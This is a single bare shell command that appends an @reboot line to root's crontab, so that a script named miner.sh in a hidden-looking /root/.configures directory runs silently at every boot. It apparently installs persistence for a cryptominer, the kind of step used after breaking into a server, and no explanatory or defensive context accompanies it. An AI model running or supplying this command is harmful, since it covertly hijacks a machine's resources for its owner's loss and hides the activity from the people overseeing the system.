echo "@reboot /root/.configures/miner.sh >/dev/null 2>&1" >> /var/spool/cron/root
